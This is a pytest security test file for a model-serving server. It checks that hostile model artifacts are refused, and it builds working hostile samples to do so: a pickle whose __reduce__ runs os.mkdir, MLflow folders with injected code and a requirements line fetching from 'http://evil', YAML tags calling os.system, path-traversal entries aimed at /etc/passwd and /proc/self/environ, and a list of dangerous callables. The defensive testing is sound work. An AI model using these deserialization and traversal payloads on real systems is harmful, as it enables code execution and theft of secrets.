"""The author of a model that is trusted in nothing: files that would read others, run code, or take the pod down."""

from __future__ import annotations

import hashlib
import io
import json
import os
import pickle
import sys
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Any

import joblib
import numpy as np
import pytest
import skops.io
import yaml
from security.share import tenth
from sklearn.compose import ColumnTransformer
from sklearn.ensemble import VotingClassifier
from sklearn.feature_extraction.text import CountVectorizer, HashingVectorizer, TfidfVectorizer
from sklearn.linear_model import LogisticRegression
from sklearn.model_selection import GridSearchCV
from sklearn.pipeline import FeatureUnion, make_pipeline
from sklearn.preprocessing import FunctionTransformer
from ultramarine_contract.common import MANIFEST_NAME
from ultramarine_contract.serving_records import ServingTask
from ultramarine_server.errors import LoadError
from ultramarine_server.formats.artifact import ModelFile, find_model
from ultramarine_server.formats.loading import load


def refusal(path: Path, format: str) -> LoadError:
    """The error that loading a file of this format must end with."""
    with pytest.raises(LoadError) as caught:
        load(ModelFile(path, format), ServingTask("m", "1", "", "", format), 1)
    return caught.value


@contextmanager
def refused_or_not(*reasons: str) -> Iterator[None]:
    """Take a refusal for one of these reasons."""
    with suppress(LoadError):
        try:
            yield
        except LoadError as error:
            if error.reason not in reasons:
                raise AssertionError(f"{error.reason}: {error.message}") from error
            raise


def onnx_with_data_in(location: str) -> bytes:
    """An ONNX model that wants its weights read from another file."""
    from onnx import TensorProto, helper

    weights = TensorProto(name="c", data_type=TensorProto.FLOAT, dims=[2], data_location=TensorProto.EXTERNAL)
    for key, value in (("location", location), ("offset", "0"), ("length", "8")):
        weights.external_data.add(key=key, value=value)
    inputs, outputs = (helper.make_tensor_value_info(name, TensorProto.FLOAT, [None, 2]) for name in "xy")
    graph = helper.make_graph([helper.make_node("Add", ["x", "c"], ["y"])], "g", [inputs], [outputs], [weights])
    made = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 18)], ir_version=9)
    return bytes(made.SerializeToString())


@pytest.mark.attack(
    "model/onnx-files",
    asset="files of the pod",
    threat="an ONNX model names other files as its weights",
    control="paths and links out of the model's folder are refused",
)
@pytest.mark.parametrize(
    "location",
    ["../secret", "{folder}/secret", "link", "/proc/self/environ", "x/../../secret", "..\\secret", "./link",
     "file://{folder}/secret", "//{folder}/secret", "", ".", "/dev/stdin"],
)  # fmt: skip
def test_an_onnx_model_reads_no_file_but_its_artifacts(tmp_path: Path, location: str) -> None:
    """Weights that lie outside of the model's folder, by path or by link, are not loaded."""
    folder = tmp_path / "model"
    folder.mkdir()
    (tmp_path / "secret").write_bytes(np.float32([41, 42]).tobytes())
    (folder / "link").symlink_to(tmp_path / "secret")
    path = folder / "model.onnx"
    path.write_bytes(onnx_with_data_in(location.format(folder=tmp_path)))

    assert refusal(path, "onnx").reason == "ModelCorrupt"


# What would run code, open files or reach others where it is called with something of the file's or the client's.
CALLABLES = [
    "os.system", "os.popen", "posix.system", "os.execv", "os.remove", "os.getenv", "subprocess.Popen",
    "subprocess.check_output", "builtins.eval", "builtins.exec", "builtins.open", "builtins.compile",
    "builtins.__import__", "builtins.getattr", "importlib.import_module", "runpy.run_path", "pickle.loads",
    "pickle.load", "marshal.loads", "shelve.open", "ctypes.CDLL", "shutil.rmtree", "urllib.request.urlopen",
    "socket.create_connection", "codecs.open", "io.open", "pathlib.Path", "pty.spawn", "code.interact", "pdb.set_trace",
    "timeit.timeit", "operator.methodcaller", "operator.attrgetter", "functools.reduce", "types.FunctionType",
    "numpy.load", "numpy.fromfile", "numpy.memmap", "numpy.loadtxt", "numpy.genfromtxt", "numpy.savetxt",
    "numpy.ctypeslib.load_library", "numpy.f2py.compile", "numpy.testing.runstring", "pandas.read_pickle",
    "pandas.read_csv", "pandas.read_sql", "pandas.eval", "scipy.io.loadmat", "joblib.load", "joblib.Memory",
    "sklearn.datasets.load_files", "sklearn.datasets.fetch_openml", "sklearn.datasets.load_svmlight_file",
    "skops.io.load", "onnxruntime.InferenceSession", "lightgbm.Booster", "ultramarine_server.formats.loading.load",
]  # fmt: skip


def forge(path: Path, change: Callable[[dict[str, Any]], Any]) -> None:
    """Write another description of the objects into a .skops file."""
    with zipfile.ZipFile(path) as made:
        members = {member: made.read(member) for member in made.namelist()}
    schema = json.loads(members["schema.json"])
    change(schema)
    with zipfile.ZipFile(path, "w") as forged:
        for member, content in {**members, "schema.json": json.dumps(schema).encode()}.items():
            forged.writestr(member, content)


def _text(value: str) -> dict[str, Any]:
    return {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "content": json.dumps(value)}


def joblib_dumps(what: Any) -> bytes:
    """As joblib writes it, compressed."""
    stream = io.BytesIO()
    joblib.dump(what, stream, compress=3)
    return stream.getvalue()


def zipped_pickle(what: Any) -> bytes:
    """As torch writes it."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as made:
        made.writestr("archive/data.pkl", pickle.dumps(what))
        made.writestr("schema.json", pickle.dumps(what))
    return stream.getvalue()


def npz_pickle(what: Any) -> bytes:
    """As numpy writes objects."""
    stream = io.BytesIO()
    np.savez(stream, model=np.array([what], dtype=object), allow_pickle=True)
    return stream.getvalue()


@pytest.fixture
def archive(tmp_path: Path) -> Path:
    """A good .skops file."""
    path = tmp_path / "models" / "model.skops"
    path.parent.mkdir()
    skops.io.dump(LogisticRegression().fit([[0.0], [1.0]], [0, 1]), path)
    return path


@pytest.mark.attack("model/skops-types")
@pytest.mark.parametrize("name", tenth(CALLABLES))
def test_a_skops_file_cannot_name_what_is_to_be_called(archive: Path, name: str) -> None:
    """A forged schema whose root is a function is refused by the function's name, and nothing is called."""
    module, _, word = name.rpartition(".")
    forge(archive, lambda schema: schema.update({"__module__": module, "__class__": word, "__loader__": "ObjectNode"}))

    error = refusal(archive, "sklearn")
    assert error.reason == "CodeExecutionRefused"
    assert name in error.message


@pytest.mark.attack("model/skops-types")
@pytest.mark.parametrize("name", tenth(CALLABLES))
def test_a_transformer_cannot_name_what_is_to_be_called(tmp_path: Path, name: str) -> None:
    """A function that a known type would call with the client's rows is refused by its name, however deep it lies."""
    function = FunctionTransformer(np.log1p)
    path = tmp_path / "model.skops"
    skops.io.dump(FeatureUnion([("a", make_pipeline(function))]), path)
    forge(path, lambda schema: _renamed(schema, "log1p", *name.rsplit(".", 1)))

    error = refusal(path, "sklearn")
    assert error.reason == "CodeExecutionRefused"
    assert name in error.message


def _renamed(node: Any, old: str, module: str, name: str) -> None:
    """Give another name to what is named so, at any depth."""
    if isinstance(node, dict):
        if node.get("__class__") == old or node.get("content") == old:
            node.update({"__module__": module, "__class__": name, "__loader__": "FunctionNode"})
            node["content"] = {"module_path": module, "function": name}
        for child in node.values():
            _renamed(child, old, module, name)
    elif isinstance(node, list):
        for child in node:
            _renamed(child, old, module, name)


@pytest.mark.attack(
    "model/skops-files",
    asset="files of the pod",
    threat="a `.skops` of known types, such as a vectorizer of files, opens what a client names",
    control="vectorizers whose input is not the text itself are refused, whatever holds them",
)
@pytest.mark.parametrize("vectorizer", [CountVectorizer, TfidfVectorizer, HashingVectorizer])
@pytest.mark.parametrize("input", ["filename", "file"])
@pytest.mark.parametrize(
    "wrap",
    tenth(
        [
            make_pipeline,
            lambda step: FeatureUnion([("a", step)]),
            lambda step: ColumnTransformer([("a", step, 0)]),
            lambda step: make_pipeline(make_pipeline(make_pipeline(step))),
            lambda step: GridSearchCV(
                make_pipeline(step, LogisticRegression()), {"countvectorizer__analyzer": ["char"]}
            ),
            lambda step: VotingClassifier([("a", make_pipeline(step, LogisticRegression()))]),
            lambda step: make_pipeline(FunctionTransformer(np.log1p, kw_args={"where": step})),
        ]
    ),
    ids=["pipeline", "union", "columns", "pipelines", "search", "vote", "argument"],
)
def test_no_vectorizer_takes_a_clients_text_for_a_path(
    tmp_path: Path, vectorizer: Any, input: str, wrap: Callable[[Any], Any]
) -> None:
    """Whatever holds the vectorizer, one that would open what a client names is refused by its attribute."""
    path = tmp_path / "model.skops"
    skops.io.dump(wrap(vectorizer(input=input, analyzer="char")), path)

    error = refusal(path, "sklearn")
    assert error.reason in ("ModelUnsupported", "CodeExecutionRefused")
    assert "must be 'content'" in error.message or "kw_args" in error.message


class Evil:
    """Makes a file where it is unpickled."""

    def __init__(self, marker: Path) -> None:
        self._marker = marker

    def __reduce__(self) -> Any:
        return os.mkdir, (str(self._marker),)


def evil_arrays(marker: Path) -> bytes:
    """An .npy file with a pickle in it."""
    stream = io.BytesIO()
    np.save(stream, np.array([Evil(marker)], dtype=object), allow_pickle=True)
    return stream.getvalue()


@pytest.mark.attack("model/renamed-pickles")
def test_an_array_in_a_skops_file_is_not_unpickled(archive: Path, tmp_path: Path) -> None:
    """Arrays of numbers are read as numbers; one of objects, which is a pickle, is refused unread."""
    evil = evil_arrays(tmp_path / "run")
    with zipfile.ZipFile(archive) as made:
        members = {name: made.read(name) for name in made.namelist()}
    with zipfile.ZipFile(archive, "w") as forged:
        for name, content in members.items():
            forged.writestr(name, evil if name.endswith(".npy") else content)

    assert refusal(archive, "sklearn").reason == "ModelCorrupt"
    assert not (tmp_path / "run").exists()


@pytest.mark.attack(
    "model/renamed-pickles",
    asset="the serving pod",
    threat="a pickle under the name or in the place of something else",
    control="a file is read by the format that it is registered as, by a parser of that format alone",
)
@pytest.mark.parametrize(
    "dumps", [pickle.dumps, joblib_dumps, zipped_pickle, npz_pickle], ids=lambda dumps: dumps.__name__
)
@pytest.mark.parametrize(
    ("name", "format"),
    tenth(
        [
            ("model.skops", "sklearn"),
            ("model.onnx", "onnx"),
            ("model.ubj", "xgboost"),
            ("model.json", "xgboost"),
            ("model.txt", "lightgbm"),
            ("MLmodel", "mlflow"),
            ("model.pkl", "sklearn"),
            ("model.pkl", "onnx"),
            ("model", "xgboost"),
            ("model.joblib", "lightgbm"),
        ]
    ),
)
def test_a_pickle_is_unpickled_by_no_other_name(
    tmp_path: Path, dumps: Callable[[Any], bytes], name: str, format: str
) -> None:
    """A pickle that is said to be something else is refused as that, and not unpickled."""
    (tmp_path / name).write_bytes(dumps(Evil(tmp_path / "run")))

    assert refusal(tmp_path if format == "mlflow" else tmp_path / name, format).reason == "ModelCorrupt"
    assert not (tmp_path / "run").exists()


@pytest.mark.attack("model/skops-types")
@pytest.mark.parametrize(
    "change",
    [
        lambda schema: schema.clear(),
        lambda schema: schema.update({"__loader__": "MethodNode", "content": {"func": "system", "obj": {}}}),
        lambda schema: schema.update({"__loader__": "OperatorFuncNode"}),
        lambda schema: schema.update({"__loader__": "PartialNode"}),
        lambda schema: schema.update({"__loader__": "TypeNode"}),
        lambda schema: schema.update({"__loader__": "FileNode"}),
        lambda schema: schema.update({"__loader__": "os.system"}),
        lambda schema: schema.update({"__reduce__": {"__class__": "system", "__module__": "os"}}),
        lambda schema: schema.update({"content": {"__id__": 1}}),
        lambda schema: schema["content"]["content"].update({"__class__": _text("x")}),
        lambda schema: schema["content"]["content"].update({"__dict__": _text("x")}),
        lambda schema: schema["content"]["content"].update({"__setstate__": _text("x")}),
        lambda schema: schema["content"]["content"]["coef_"].update({"file": "../../etc/passwd"}),
        lambda schema: schema["content"]["content"]["coef_"].update({"file": "/etc/passwd"}),
        lambda schema: schema["content"]["content"]["coef_"].update({"type": "memmap", "file": "/etc/passwd"}),
        lambda schema: schema.update({"protocol": 10**9, "__module__": "x" * 10**6}),
    ],
    ids=["nothing", "method", "operator", "partial", "type", "file", "loader", "reduce", "circle", "class", "dict",
         "setstate", "up", "root", "memmap", "long name"],
)  # fmt: skip
def test_a_forged_schema_is_refused(archive: Path, change: Callable[[dict[str, Any]], Any]) -> None:
    """A schema that makes skops build something different is refused before anything is built."""
    forge(archive, change)

    assert refusal(archive, "sklearn").reason in ("ModelCorrupt", "CodeExecutionRefused", "DependencyMissing")


@pytest.mark.attack(
    "model/archive-paths",
    asset="files of the pod",
    threat="paths in an archive (`../x`, `/x`)",
    control="archives are read in memory, never unpacked; a manifest's paths are checked before anything is written",
)
@pytest.mark.parametrize("member", ["../escaped", "/tmp/ultramarine-escaped", "a/../../escaped"])
def test_a_skops_file_writes_nothing(
    archive: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, member: str
) -> None:
    """Members with paths that lead out of a folder are never unpacked: the archive is read in memory."""
    monkeypatch.chdir(archive.parent)
    with zipfile.ZipFile(archive, "a") as made:
        made.writestr(member, b"escaped")
    load(ModelFile(archive, "sklearn"), ServingTask("m", "1", "", "", "sklearn"), 1)

    assert [path for path in tmp_path.rglob("*") if path.is_file()] == [archive]
    assert not Path("/tmp/ultramarine-escaped").exists()


# Folders of MLflow


def mlflow_folder(folder: Path, mlmodel: Any, **files: bytes | str) -> Path:
    """A folder with that MLmodel and these files."""
    folder.mkdir()
    (folder / "MLmodel").write_text(mlmodel if isinstance(mlmodel, str) else yaml.safe_dump(mlmodel))
    for name, content in files.items():
        path = folder / name.replace("__", "/")
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return folder


EVIL_CODE = "import pathlib\npathlib.Path({marker!r}).touch()\ndef _load_pyfunc(path): return None\n"
TREES = {"xgboost": {"data": "model.ubj", "model_format": "ubj"}}


@pytest.mark.attack(
    "model/mlflow-code",
    asset="the serving pod",
    threat="a folder of MLflow brings code, a loader's name, requirements to install, or an environment to build",
    control="the file of the flavor is read, and MLmodel for its name and inputs; nothing else of the folder is",
)
@pytest.mark.parametrize(
    "flavors",
    tenth(
        [
            {"python_function": {"loader_module": "evil", "code": "code", "data": "model.ubj"}},
            {"python_function": {"loader_module": "os", "data": "model.ubj", "env": "conda.yaml"}},
            {"python_function": {"loader_module": "mlflow.pyfunc.model", "python_model": "python_model.pkl"}},
            {"python_function": {"loader_module": "evil", "model_code_path": "code/evil.py"}},
            {"pytorch": {"model_data": "data", "code": "code", "pickle_module_info": "evil"}},
            {"tensorflow": {"saved_model_dir": "data"}},
            {"keras": {"data": "data", "keras_module": "evil"}},
            {"langchain": {"model_data": "python_model.pkl"}},
            {"transformers": {"model_binary": "data", "trust_remote_code": True}},
            {"spark": {"model_data": "data"}},
            {"sklearn": {"pickled_model": "python_model.pkl", "serialization_format": "cloudpickle", "code": "code"}},
            {"sklearn": {"pickled_model": "model.ubj", "serialization_format": "skops"}},
            {"xgboost": {"data": "python_model.pkl", "code": "code"}},
            {"lightgbm": {"data": "python_model.pkl", "lgb_version": "4"}},
            {"xgboost": {"data": "python_model.skops"}},
        ]
    ),
)
def test_no_flavor_brings_code_of_its_own(tmp_path: Path, flavors: dict[str, Any]) -> None:
    """A model that needs code of its folder, or a pickle, is refused, and none of its code has run."""
    marker = tmp_path / "run"
    code, path = EVIL_CODE.format(marker=str(marker)), list(sys.path)
    folder = mlflow_folder(
        tmp_path / "m",
        {"flavors": flavors, "model_uuid": "x"},
        **{
            "model.ubj": b"{}",
            "python_model.pkl": pickle.dumps(Evil(marker)),
            "python_model.skops": pickle.dumps(Evil(marker)),
        },
        **{"code__evil.py": code, "evil.py": code, "data__x": b"", "requirements.txt": "-e code\nhttp://evil/x.whl\n"},
        **{
            "conda.yaml": "dependencies: [{pip: ['-e code']}]\n",
            "python_env.yaml": "dependencies: [-r requirements.txt]\n",
        },
    )

    assert refusal(folder, "mlflow").reason in ("ModelUnsupported", "CodeExecutionRefused", "ModelCorrupt")
    assert not marker.exists()
    assert sys.path == path
    assert "evil" not in sys.modules


@pytest.mark.attack("model/mlflow-folder")
@pytest.mark.parametrize(
    "name",
    ["link.ubj", "folder/../../secret.ubj", "./../secret.ubj", "folder", "MLmodel/x", "s3://bucket/x", "~/x", "$HOME/x",
     "/proc/self/environ", "http://127.0.0.1/x", "a\0b", "%2e%2e/secret.ubj", "x" * 5_000],
)  # fmt: skip
def test_no_mlmodel_names_a_file_elsewhere(tmp_path: Path, name: str) -> None:
    """Links out of the folder, and whatever else leads to another file, are refused as no file of the folder."""
    (tmp_path / "secret.ubj").write_bytes(b"secret")
    folder = mlflow_folder(tmp_path / "m", {"flavors": {"xgboost": {"data": name}}}, folder__x=b"")
    (folder / "link.ubj").symlink_to(tmp_path / "secret.ubj")

    error = refusal(folder, "mlflow")
    assert error.reason == "ModelCorrupt"
    assert "secret" not in error.message.replace(repr(name), "")


LAUGHS = "a0: &a0 [x, x]\n" + "".join(f"a{n}: &a{n} [*a{n - 1}, *a{n - 1}]\n" for n in range(1, 60))


@pytest.mark.attack("model/mlflow-folder")
@pytest.mark.parametrize(
    "text",
    [
        LAUGHS + "flavors: *a59\n",
        LAUGHS + "flavors: {onnx: *a59}\n",
        LAUGHS + "flavors: {xgboost: {data: *a59}}\n",
        "flavors: " + "[" * 20_000,
        "flavors: " + "{a: " * 5_000 + "}" * 5_000,
        "flavors: !!python/name:os.system\n",
        "flavors: !!python/module:evil\n",
        "flavors: !!python/object/new:os.system [touch /tmp/x]\n",
        "flavors: {xgboost: {data: !!binary Li4vc2VjcmV0}}\n",
        "flavors: {xgboost: {data: {? [a] : b}}}\n",
        "flavors: {1: {data: x}, null: {}, 2026-12-01: {}}\n",
        "flavors: &a {xgboost: *a}\n",
        "--- {}\n--- {}\n",
        "\ufeff\0",
    ],
    ids=["laughs", "laughs in a flavor", "laughs in a name", "lists", "maps", "name", "module", "object", "bytes",
         "map for a key", "keys", "circle", "documents", "NUL"],
)  # fmt: skip
def test_a_document_that_is_a_trap_is_refused(tmp_path: Path, text: str) -> None:
    """Documents that would grow, recurse or make objects are refused as unreadable, unknown or without consent."""
    reason = refusal(mlflow_folder(tmp_path / "m", text), "mlflow").reason
    assert reason in ("ModelCorrupt", "ModelUnsupported", "CodeExecutionRefused")


# Signatures


@pytest.mark.attack(
    "model/signatures",
    asset="the serving pod",
    threat="a signature of sizes, types or names that the server's memory could not bear, or that the model denies",
    control="compared with the model's own before a row is made of it",
)
@pytest.mark.parametrize(
    "tensor",
    [
        {"shape": [-1, 2**62]},
        {"shape": [2**40, 1]},
        {"shape": [2**63, 1]},
        {"shape": [1] * 100},
        {"shape": ["1", "x"]},
        {"shape": [None]},
        {"shape": 5},
        {"datatype": "object"},
        {"datatype": "V99999999999"},
        {"datatype": ""},
        {"datatype": ["FP64"]},
        {"name": None, "shape": None},
        {"shape": [-1, 10**9]},
        {"shape": [10**9]},
    ],
    ids=str,
)
def test_a_signature_that_is_a_trap_is_refused(archive: Path, tensor: dict[str, Any]) -> None:
    """A registered signature that no row fits is refused in words, before memory is taken for it."""
    inputs = [{"name": "input", "datatype": "FP64", "shape": [-1, 1]} | tensor]
    with pytest.raises(LoadError) as caught:
        load(ModelFile(archive, "sklearn"), ServingTask("m", "1", "", "", "sklearn", signature={"inputs": inputs}), 1)
    assert caught.value.reason in ("SignatureInvalid", "SignatureMismatch", "ModelCorrupt")


@pytest.mark.attack("model/signatures")
@pytest.mark.parametrize(
    "inputs",
    [
        "[" * 100_000,
        '[{"type": "tensor", "tensor-spec": {"dtype": "V9999999999", "shape": [-1, 1]}}]',
        '[{"type": "tensor", "tensor-spec": {"dtype": "O", "shape": [9223372036854775807]}}]',
        '[{"type": "tensor", "tensor-spec": {"dtype": "f8,f8", "shape": [-1]}}]',
        '[{"type": "tensor", "tensor-spec": {"dtype": "float64", "shape": [-1, 1000000000000]}}]',
        '[{"type": "evil", "name": "x"}]',
        '{"type": "double"}',
        "null",
        '[{"type": "double", "name": {"a": 1}}]',
    ],
)
def test_a_logged_signature_that_is_a_trap_is_left_out_or_refused(tmp_path: Path, archive: Path, inputs: str) -> None:
    """The inputs in MLmodel are accepted only if the model agrees."""
    document = {"flavors": {"sklearn": {"pickled_model": "model.skops"}}, "signature": {"inputs": inputs}}
    folder = mlflow_folder(tmp_path / "m", document, **{"model.skops": archive.read_bytes()})
    with refused_or_not("SignatureInvalid", "SignatureMismatch", "ModelCorrupt"):
        model = load(ModelFile(folder, "mlflow"), ServingTask("m", "1", "", "", "mlflow"), 1)
        assert [spec.shape for spec in model.signature.inputs] in ([(-1, 1)], [(-1,)])


# Files of other libraries


@pytest.mark.attack("model/onnx-files")
@pytest.mark.parametrize(
    ("domain", "op"),
    [
        ("com.evil", "Run"),
        ("ai.onnx.ml", "Shell"),
        ("com.microsoft.extensions", "PyOp"),
        ("", "PyOp"),
        ("", "x" * 10**5),
    ],
)
def test_an_onnx_model_calls_no_operator_of_its_own(tmp_path: Path, domain: str, op: str) -> None:
    """Operators that the runtime does not bring are refused; none is loaded for a model."""
    from onnx import TensorProto, helper

    inputs, outputs = (helper.make_tensor_value_info(name, TensorProto.FLOAT, [None, 2]) for name in "xy")
    graph = helper.make_graph([helper.make_node(op, ["x"], ["y"], domain=domain)], "g", [inputs], [outputs])
    sets = [helper.make_opsetid(domain, 1), *([helper.make_opsetid("", 18)] if domain else [])]
    path = tmp_path / "model.onnx"
    path.write_bytes(helper.make_model(graph, opset_imports=sets, ir_version=9).SerializeToString())

    assert refusal(path, "onnx").reason == "ModelCorrupt"


@pytest.mark.attack("model/signatures")
@pytest.mark.parametrize("key", ["signature", "features", "gaps", "missing-texts", "known-texts"])
@pytest.mark.parametrize(
    "text", tenth(["{", "null", "5", "[[[[]]]]", '{"inputs": 5}', '{"a": {"b": "c"}}', "[" * 50_000])
)
def test_forged_metadata_of_a_compiled_model_is_refused(tmp_path: Path, key: str, text: str) -> None:
    """Metadata that the compiler writes into a file is read as untrusted input."""
    from onnx import TensorProto, helper

    tensor = {"name": "x", "datatype": "FP32", "shape": [-1, 2]}
    signature = json.dumps({"inputs": [tensor], "outputs": [tensor | {"name": "y"}]})
    inputs, outputs = (helper.make_tensor_value_info(name, TensorProto.FLOAT, [None, 2]) for name in "xy")
    graph = helper.make_graph([helper.make_node("Identity", ["x"], ["y"])], "g", [inputs], [outputs])
    made = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 18)], ir_version=9)
    helper.set_model_props(made, {"ultramarine.signature": signature, f"ultramarine.{key}": text})
    path = tmp_path / "model.onnx"
    path.write_bytes(made.SerializeToString())
    with refused_or_not("ModelCorrupt", "SignatureInvalid", "SignatureMismatch"):
        load(ModelFile(path, "onnx"), ServingTask("m", "1", "", "", "onnx"), 1)


@pytest.mark.attack("model/archive-paths")
@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("link", "link"), ("../model.skops", "up"), ("/etc/passwd", "root"), ("a//b", "double"), ("a/./b", "dot"),
        ("a\\..\\b", "backslash"), ("", "nothing"), (".", "self"), ("a\0b", "NUL"), ("a\nb", "line"),
    ],
)  # fmt: skip
def test_a_manifest_names_files_of_its_folder(tmp_path: Path, path: str, kind: str) -> None:
    """A manifest with a path outside the folder is refused, even if the digest is right."""
    secret = tmp_path / "secret"
    secret.write_bytes(b"secret")
    folder = tmp_path / "m"
    folder.mkdir()
    (folder / "link").symlink_to(secret)
    entry = {"path": path, "size": 6, "sha256": hashlib.sha256(b"secret").hexdigest()}
    content = json.dumps({"files": [entry], "format": "onnx"}).encode()
    (folder / MANIFEST_NAME).write_bytes(content)
    task = ServingTask("m", "1", "s3://b/x/", "sha256:" + "0" * 64, "onnx")
    with pytest.raises(LoadError) as caught:
        find_model(folder, task)
    assert caught.value.reason in ("ModelCorrupt", "DigestMismatch", "FormatUnknown", "ModelMissing")
